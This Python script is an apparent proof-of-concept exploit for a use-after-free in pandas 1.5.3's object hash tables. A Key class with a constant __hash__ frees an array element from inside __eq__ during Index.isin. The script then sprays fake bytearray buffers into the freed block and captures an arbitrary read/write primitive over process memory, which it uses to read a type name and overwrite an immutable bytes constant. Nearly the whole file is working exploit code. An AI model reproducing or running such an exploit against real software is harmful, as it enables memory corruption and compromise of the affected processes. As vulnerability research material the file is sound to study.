# source: pandas 1.5.3 pandas/_libs/hashtable_class_helper.pxi / hashtable_func_helper.pxi (ismember_object): the khash PyObject table keeps keys by borrowed pointer (kh_put_pymap(table, <PyObject*>val)) and compares them with PyObject_RichCompareBool while the script's __eq__ runs; pandas/_libs/src/klib/khash_python.h pyobject_cmp
# family: use-after-free in pandas' object hash tables: a key freed from inside __eq__ stays in the table -> freed block refilled with a fake bytearray -> handed back to __eq__ -> arbitrary read/write
# goal: pd.Index(probe).isin(values) over keys with a constant __hash__; __eq__ frees values[0] (only the array held it), sprays bytearray buffers into its 128-byte block, and receives the fake bytearray over the whole address space in the next comparison; reads the tuple type's name by address and overwrites an immutable bytes constant
import numpy as np
import pandas as pd

M64 = (1 << 64) - 1


def addr_of_type(t):
    h = hash(t) & M64
    return ((h << 4) | (h >> 60)) & M64


def q(v):
    return (v & M64).to_bytes(8, "little")


# a fake bytearray over the whole address space, laid where a freed Key object was (block + 16)
FAKE = q(1 << 40) + q(addr_of_type(bytearray)) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(1)
P = b"\x00" * 16 + FAKE
P = P + b"\x00" * (127 - len(P))    # buffer of 128 bytes = a Key's block
spray = [None] * 4096
G = {"n": 0, "mem": None}


class Key:
    __slots__ = ("v", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k")

    def __init__(self, v):
        self.v = v

    def __hash__(self):
        return 7                    # every key in one bucket chain: pandas compares them

    def __eq__(self, other):
        if G["n"] == 0 and self.v != 0 and type(other) is Key and other.v != 0:
            G["n"] = 1
            values[0] = 0           # the hash table keeps values[0] by a borrowed pointer
            for i in range(4096):
                spray[i] = bytearray(P)
        elif G["mem"] is None and type(other) is bytearray:
            G["mem"] = other
        return False


values = np.empty(4, dtype=object)
for i in (3, 2, 1, 0):
    values[i] = Key(i)
probe = np.empty(2, dtype=object)
probe[0] = Key(10)
probe[1] = Key(11)
print(pd.Index(probe).isin(values).tolist())
mem = G["mem"]
print("captured:", type(mem).__name__)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def cstr(addr):
    out = b""
    while mem[addr] != 0:
        out += bytes([mem[addr]])
        addr += 1
    return out


t = addr_of_type(tuple)
print("read tuple type's tp_name at", hex(t), "->", cstr(rd(t + 24)))


def secret():
    return b"immutable-constant"


code = rd(int(repr(secret).split(" at ")[1][:-1], 16) + 48)
consts = rd(code + 24)
for i in range(rd(consts + 16)):
    c = rd(consts + 24 + 8 * i)
    if rd(c + 8) == addr_of_type(bytes):
        for j, ch in enumerate(b"OVERWRITTEN-bytes!"):
            mem[c + 32 + j] = ch
print("bytes constant now:", secret())
